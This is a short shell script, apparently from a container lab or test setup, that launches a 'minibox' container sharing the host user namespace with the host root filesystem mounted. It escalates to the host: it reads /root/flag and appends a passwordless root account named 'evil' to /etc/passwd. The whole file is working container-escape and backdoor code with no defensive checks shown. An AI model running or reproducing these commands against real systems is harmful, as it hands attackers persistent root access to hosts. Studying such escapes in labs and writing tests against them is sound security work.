#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
case $(minibox run --help) in
*--allow-sensitive*) set -- --allow-sensitive ;;
*) set -- ;;
esac
minibox run --rm --userns host "$@" -v /:/host lab/box cat /host/root/flag
minibox run --rm --userns host "$@" -v /:/host lab/box sh -c 'echo ran; echo evil::0:0::/:/bin/sh >>/host/etc/passwd'
